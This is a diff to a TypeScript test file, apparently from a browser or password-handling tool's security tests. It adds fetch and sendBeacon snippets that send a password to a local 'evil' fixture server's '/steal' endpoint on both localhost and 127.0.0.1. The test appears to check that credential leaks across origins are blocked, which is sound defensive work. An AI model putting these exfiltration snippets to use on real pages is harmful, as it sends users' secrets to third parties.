@@ -19,8 +19,11 @@ const password = 'hunter22-recipe';
 
 before(async () => {
   evil = await startFixture({ '/steal': (_req, _body, res) => html(res, 'ok') });
+  // Another host name, and the same host on another port: another server, another application.
   const steal = (how: string) => {
     const to = `'${`http://localhost:${evil.port}/steal`}?${how}=' + encodeURIComponent(value)`;
+    const toPort = `'${`http://127.0.0.1:${evil.port}/steal`}?${how}-port=' + encodeURIComponent(value)`;
+    if (how === 'now') return `fetch(${to}, { mode: 'no-cors' }); fetch(${toPort}, { mode: 'no-cors' })`;
     return how === 'beacon' ? `navigator.sendBeacon(${to}, 'x')` : `fetch(${to}, { mode: 'no-cors' })`;
   };
   site = await startFixture({
